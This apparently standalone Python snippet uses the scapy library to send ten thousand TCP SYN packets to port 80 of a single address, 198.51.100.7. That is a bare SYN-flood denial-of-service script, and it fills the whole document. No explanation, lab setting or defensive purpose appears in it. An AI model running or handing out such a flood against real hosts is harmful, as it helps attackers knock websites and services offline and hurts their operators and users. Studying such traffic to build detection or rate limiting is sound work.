from scapy.all import IP, TCP, send
send(IP(dst='198.51.100.7') / TCP(dport=80, flags='S'), count=10000)
